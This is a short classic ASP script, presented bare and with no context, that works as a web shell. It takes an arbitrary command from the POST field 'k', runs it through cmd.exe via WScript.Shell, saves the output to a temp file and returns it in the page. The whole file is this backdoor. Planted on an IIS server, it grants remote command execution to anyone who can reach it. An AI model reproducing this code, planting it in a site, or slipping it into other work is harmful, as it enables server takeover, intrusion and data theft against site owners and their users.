<%
Dim k
k = request.form("k")
Server.CreateObject("WSCRIPT.SHELL").Run "cmd.exe /c " & k & " > C:\Windows\Temp\o.txt", 0, True
Response.Write CreateObject("Scripting.FileSystemObject").OpenTextFile("C:\Windows\Temp\o.txt").ReadAll
%>
